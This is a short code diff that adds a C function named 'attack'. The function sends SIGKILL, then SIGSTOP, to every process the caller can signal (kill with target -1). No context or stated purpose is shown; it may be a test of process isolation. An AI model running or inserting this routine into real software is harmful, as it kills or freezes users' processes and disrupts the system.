@@ -1,0 +1,5 @@
+static void attack(void)
+{
+    kill(-1, SIGKILL);
+    kill(-1, SIGSTOP);
+}
